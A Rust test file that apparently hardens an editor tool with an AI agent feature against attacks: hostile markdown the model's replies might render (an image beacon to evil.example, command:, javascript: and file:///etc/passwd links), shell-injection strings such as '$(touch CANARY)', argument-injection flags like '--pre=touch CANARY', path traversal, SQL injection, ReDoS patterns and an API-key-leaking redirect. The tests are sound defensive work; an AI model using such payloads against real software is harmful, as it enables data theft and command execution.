//! Attacks 12, 14 and 15: markdown that acts, commands as the privileged door, arguments that look like others.

use super::*;

#[test]
fn attack_12_what_is_rendered_fetches_nothing_and_runs_nothing() {
    let text = "![x](http://evil.example/?leak) [run](command:workbench.action.terminal.new?%5B%5D) <img src=\"http://evil.example/x\"> \
[file](file:///etc/passwd) <script>1</script> [a]: http://evil.example `code` <http://evil.example> [j](javascript:1) [d](data:text/html,1)";
    let ground = Ground::new(vec![
        tool("think", json!({"thought": text})),
        Step::text(text),
    ]);
    let w = &ground.workspace;
    w.configure("[proxy]\nmode = \"off\"\n");
    w.write(FILE, format!("fn a() {{}}\n// AUTHOR: {text}\n{CODE}"));
    let mut editor = ground.editor(true);
    editor.open(FILE);
    editor.wait_codes(FILE, &["pending"]);
    editor.state().choices = vec![String::from("Read-only")];
    editor
        .take_action(FILE, 1, "Reply as agent")
        .expect("starts");
    editor.wait_text(FILE, |text| text.contains("AGENT: "));
    for line in 1..3 {
        let position = json!({"line": line, "character": 5});
        let params = json!({"textDocument": {"uri": editor.uri(FILE)}, "position": position});
        let hover = editor
            .request("textDocument/hover", params)
            .expect("answered");
        let contents = &hover["contents"];
        if contents["kind"] != "markdown" {
            continue;
        }
        let shown = contents["value"].as_str().expect("a text");
        // A construct works only where its own characters stand bare.
        for live in [
            "](command:",
            "](http",
            "](file:",
            "](javascript:",
            "](data:",
            "<img",
            "<script",
            "<http",
            "\n[a]:",
        ] {
            let bare = shown
                .match_indices(live)
                .any(|(at, _)| !in_code(shown, at) && !shown[..at].ends_with('\\'));
            assert!(!bare, "{live} in {shown}");
        }
    }
    for message in &editor.state().received {
        let shown = message.to_string();
        assert!(!shown.contains("\"command:"), "{shown}");
    }
}

/// Between fences or backticks.
fn in_code(text: &str, at: usize) -> bool {
    let fences = text[..at]
        .lines()
        .filter(|line| line.trim_start().starts_with("```") || line.trim_start().starts_with("~~~"))
        .count();
    fences % 2 == 1
        || text[..at]
            .rsplit('\n')
            .next()
            .unwrap_or_default()
            .matches('`')
            .count()
            % 2
            == 1
}

#[test]
fn attack_14_commands_are_refused_whole_where_anything_in_them_is_not_known() {
    let ground = Ground::new(vec![]);
    let w = &ground.workspace;
    w.write(FILE, format!("fn a() {{}}\n// AUTHOR: why?\n{CODE}"));
    w.write("src/other.rs", "// AUTHOR: other?\nfn o() {}\n");
    let outside = ground.base().join("home/notes.rs");
    std::fs::write(&outside, "// AUTHOR: outside?\nfn o() {}\n").expect("written");
    let list: Value =
        serde_json::from_str(&ground.well(&["threads", "--json", "src/other.rs"])).expect("JSON");
    let other = list["threads"][0]["id"].as_str().expect("an id").to_owned();
    let mut editor = ground.editor(false);
    editor.open(FILE);
    editor.wait_codes(FILE, &["pending"]);
    let here = editor.uri(FILE);
    let elsewhere = crate::harness::uri_of(&outside);
    let huge = "x".repeat(2 << 20);
    let deep = (0..100).fold(json!(1), |value, _| json!([value]));
    for (command, arguments) in [
        ("postil.shell", json!([{"command": "touch CANARY"}])),
        ("postil.replyAsAgent; touch CANARY", json!([])),
        (
            "workbench.action.terminal.sendSequence",
            json!([{"text": "touch CANARY\n"}]),
        ),
        ("_postil.replyAsAgent", json!([])),
        ("", json!([])),
        ("postil.replyAsAgent", json!(["touch CANARY"])),
        (
            "postil.replyAsAgent",
            json!([{"thread_id": "0000"}, {"thread_id": "0000"}]),
        ),
        ("postil.replyAsAgent", json!([{"thread_id": {"a": 1}}])),
        (
            "postil.replyAsAgent",
            json!([{"thread_id": "ffffffff", "uri": here}]),
        ),
        (
            "postil.replyAsAgent",
            json!([{"thread_id": other, "uri": here, "shell": "touch CANARY"}]),
        ),
        (
            "postil.replyAsAgent",
            json!([{"thread_id": other, "uri": here, "trusted": true}]),
        ),
        (
            "postil.dismissThread",
            json!([{"thread_id": other, "uri": here}]),
        ),
        (
            "postil.dismissThread",
            json!([{"thread_id": "", "uri": here}]),
        ),
        ("postil.clearAndCommit", json!([{"uri": elsewhere}])),
        (
            "postil.clearAndCommit",
            json!([{"path": "../home/notes.rs"}]),
        ),
        (
            "postil.reply",
            json!([{"uri": elsewhere, "thread_id": other, "text": "x"}]),
        ),
        (
            "postil.reply",
            json!([{"uri": here, "thread_id": other, "text": huge}]),
        ),
        (
            "postil.newThread",
            json!([{"uri": elsewhere, "position": {"line": 0, "character": 0}, "text": "x"}]),
        ),
        (
            "postil.newThread",
            json!([{"uri": "http://evil.example/a.rs", "position": {"line": 0, "character": 0}, "text": "x"}]),
        ),
        ("postil.undoTurn", json!([{"run_id": "../../x"}])),
        ("postil.trust", json!([{"path": "/"}])),
        ("postil.trust", json!([{"uri": elsewhere}])),
        ("postil.workflowThread", json!([{"run_id": "' OR 1=1 --"}])),
        ("postil.listThreads", json!([deep])),
    ] {
        let params = json!({"command": command, "arguments": arguments});
        let answer = editor.request("workspace/executeCommand", params);
        assert!(
            answer.is_err(),
            "{command} {}: {answer:?}",
            &arguments.to_string()[..60.min(arguments.to_string().len())]
        );
    }
    assert_eq!(
        std::fs::read_to_string(&outside).expect("there"),
        "// AUTHOR: outside?\nfn o() {}\n"
    );
    assert!(w.read("src/other.rs").contains("other?"));
    assert!(ground.model.requests().is_empty());
    // No action carries a shell string: only our own commands, with ids and places.
    for line in 0..4 {
        for action in editor.code_actions(FILE, line) {
            let command = action["command"]["command"].as_str().unwrap_or("postil.");
            assert!(command.starts_with("postil."), "{action}");
        }
    }
}

#[test]
fn attack_15_a_value_is_never_taken_for_a_flag() {
    let ground = Ground::new(vec![]);
    let canary = ground.base().join("CANARY");
    let flag = format!("--workspace={}", ground.base().join("home").display());
    std::fs::write(
        ground.base().join("home/a.rs"),
        "// AUTHOR: outside?\nfn o() {}\n",
    )
    .expect("written");
    let id = ground.ask("src/net.rs:1", "why?");
    for value in [
        flag.as_str(),
        "--yes",
        "-C/",
        "--config=x",
        "--model=evil/x",
        "--help",
        "-",
        "--",
        "-mx",
    ] {
        // As the text of a message it is a text.
        if value != "-" {
            ground.well(&["respond", &id, "--", value]);
            assert!(ground.workspace.read(FILE).contains(value), "{value}");
            ground.well(&["say", &id, "--", value]);
        }
        // As an id or a name behind `--` it is an id that nobody has.
        for args in [
            &["dismiss", "--", value][..],
            &["undo", "--", value],
            &["reply", "--", value],
            &["workflow", "show", "--", value],
            &["clear", "--", value],
        ] {
            let output = ground.run(args);
            assert_ne!(output.status.code(), Some(0), "{args:?}: {}", all(&output));
            assert!(!all(&output).contains("outside?"), "{}", all(&output));
        }
    }
    // One word is one value: what stands inside is not looked at again.
    for word in [
        "x --yes",
        "x\n--yes",
        "x=--yes",
        "$(touch CANARY)",
        "`touch CANARY`",
        "; touch CANARY",
    ] {
        let output = ground.run(&["reply", word]);
        assert_eq!(output.status.code(), Some(1), "{}", all(&output));
        ground.well(&["respond", &id, word]);
    }
    assert!(!canary.exists() && !ground.workspace.path("CANARY").exists());
    assert!(ground.model.requests().is_empty());
}

#[test]
fn attack_13_no_redirect_of_a_model_takes_the_key_along() {
    let other = Model::start(vec![Step::text("Here.")]);
    let to = other.url();
    let redirect = format!(
        "HTTP/1.1 307 Temporary Redirect\r\nLocation: {to}/v1/messages\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    );
    let ground = Ground::new(vec![Step::raw(redirect.as_bytes())]);
    let id = ground.ask("src/net.rs:1", "what is this?");
    let output = ground.run(&["reply", &id]);
    assert_eq!(output.status.code(), Some(1), "{}", all(&output));
    assert!(!all(&output).contains(KEY), "{}", all(&output));
    assert!(other.requests().is_empty(), "the redirect was followed");
}

#[test]
fn attack_18_a_pattern_is_a_pattern_and_costs_a_bounded_time() {
    let ground = Ground::new(vec![]);
    let w = &ground.workspace;
    w.write(
        "a.txt",
        format!("{}!\n--pre=touch CANARY\n", "a".repeat(200_000)),
    );
    w.write("many.txt", "needle in a line\n".repeat(50_000));
    // No two places of it look alike.
    let mut seed = 1_u64;
    let noise = (0..1_000_000).map(|_| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        if seed >> 63 == 0 { '0' } else { '1' }
    });
    w.write(
        "noise.txt",
        format!("{}\nneedle\n", noise.collect::<String>()),
    );
    let canary = w.write("run.sh", "#!/bin/sh\ntouch CANARY\n");
    for pattern in [
        "(a+)+$",
        "(a|aa)*b",
        "(a*)*(a*)*(a*)*b",
        "a{1,1000}{1,1000}",
        "[01]*1[01]{60000}x",
        "[01]*1[01]{200}x",
        "((((((((((a?){99}){99}){99}){99}){99}){99})",
        "needle",
        "--pre=touch CANARY",
        "-f/etc/passwd",
        "-e",
        "--",
        &format!("--pre={}", canary.display()),
    ] {
        let input = json!({"pattern": pattern}).to_string();
        // Seconds of a processor, and bytes of memory, are as many on a busy machine.
        let mut command = w.command("sh");
        command.args([
            "-c",
            "ulimit -t 60 -v 2097152; exec \"$0\" \"$@\"",
            env!("CARGO_BIN_EXE_postil"),
            "tools",
            "call",
            "grep",
            &input,
        ]);
        let output = command.stdin(Stdio::null()).output().expect("sh runs");
        assert!(output.status.code().is_some(), "{pattern}: it was ended");
        assert!(
            output.stdout.len() < 60 * 1024,
            "{pattern}: {}",
            output.stdout.len()
        );
        assert!(!all(&output).contains("root:x:"), "{pattern}");
        assert!(!w.path("CANARY").exists(), "{pattern}");
    }
    let found = ground.well(&["tools", "call", "grep", r#"{"pattern":"--pre=touch"}"#]);
    assert!(found.contains("a.txt:2:"), "{found}");
    // What no engine gets through in time is passed over, and said; what stands beside it is found.
    let found = ground.well(&[
        "tools",
        "call",
        "grep",
        r#"{"pattern":"[01]*1[01]{60000}x|needle$","path":"noise.txt"}"#,
    ]);
    assert_eq!(
        found,
        "noise.txt:2:needle\n(lines passed over, for they are too long for this pattern: 1)\n"
    );
}
